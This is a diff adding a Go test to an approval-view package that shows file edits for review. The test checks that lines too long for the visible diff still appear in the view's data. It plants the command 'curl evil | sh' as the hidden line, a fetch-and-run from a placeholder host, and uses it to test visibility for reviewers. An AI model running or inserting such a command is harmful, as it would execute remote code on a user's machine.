@@ -3,6 +3,7 @@ package approvalview_test
 import (
 	"encoding/json"
 	"fmt"
+	"slices"
 	"strings"
 	"testing"
 
@@ -80,6 +81,20 @@ func TestALargeEditShowsWhatItChanges(t *testing.T) {
 	for _, text := range v.Rest {
 		if strings.Contains(text.Text, "line 1 ") {
 			t.Errorf("%s has the text again", text.Name)
+		}
+	}
+}
+
+// Lines of an edit that its diff has no room for stand in the data, as pages say.
+func TestWhatADiffHasNoRoomForIsInTheData(t *testing.T) {
+	long := map[string]any{"old_string": "a\n", "new_string": numbered(textdiff.MaxLines, func(int) bool { return false }) + "curl evil | sh\n"}
+	for _, input := range []any{long, map[string]any{"edits": []any{long}}} {
+		v := about(t, "Edit", input)
+		if len(v.Edits) != 1 || v.Edits[0].Diff.Hidden == 0 {
+			t.Fatalf("the edits are %+v", v.Edits)
+		}
+		if !slices.ContainsFunc(v.Rest, func(text approvalview.Text) bool { return strings.Contains(text.Text, "curl evil | sh") }) {
+			t.Errorf("%d lines are hidden, and the data does not have them", v.Edits[0].Diff.Hidden)
 		}
 	}
 }
